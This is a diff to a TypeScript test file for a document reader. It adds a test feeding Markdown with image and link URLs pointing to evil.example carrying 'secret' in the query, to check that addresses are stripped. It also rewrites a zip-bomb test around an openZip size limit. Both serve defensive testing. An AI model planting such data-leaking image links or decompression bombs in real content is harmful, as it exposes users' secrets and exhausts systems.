@@ -2,6 +2,7 @@ import { strToU8, zipSync } from "fflate";
 import { describe, expect, it } from "vitest";
 import { cutPassages } from "../cut-passages";
 import { UnreadableFile } from "./document-text";
+import { openZip } from "./open-zip";
 import { readDocument } from "./read-document";
 import { readHtml } from "./read-html";
 
@@ -84,6 +85,11 @@ describe("tables", () => {
   });
 });
 
+it("keeps the words of pictures and links in Markdown and drops their addresses", () => {
+  const markdown = "**Ships** in ![x](https://evil.example/?d=secret) [two days](https://evil.example/?d=1).";
+  expect(cutPassages("Shipping", markdown)[0]?.text).toBe("Ships in x two days.");
+});
+
 describe("Word", () => {
   it("keeps headings, lists and tables; what was struck out is gone", async () => {
     const paragraph = (text: string, properties = "") =>
@@ -142,11 +148,11 @@ describe("what cannot be read", () => {
     expect(await fault("a.csv", bytes("\n\n"))).toBe("file-empty");
   });
 
-  it("does not unpack an archive that grows without end", async () => {
-    const huge = new Uint8Array(62_000_000);
-    const bomb = zipSync({ "word/document.xml": huge }, { level: 6 });
-    expect(bomb.length).toBeLessThan(400_000);
-    expect(await fault("a.docx", bomb)).toBe("file-too-large");
+  it("does not unpack an archive that grows without end", () => {
+    const bomb = zipSync({ "a.xml": new Uint8Array(3_000_000), "b.xml": new Uint8Array(3_000_000) });
+    expect(bomb.length).toBeLessThan(20_000);
+    expect(() => openZip(bomb, () => true, 4_000_000)).toThrow("unpacks to too much");
+    expect(openZip(bomb, (name) => name === "b.xml", 4_000_000).get("b.xml")).toHaveLength(3_000_000);
   });
 
   it("knows no entities that grow", async () => {
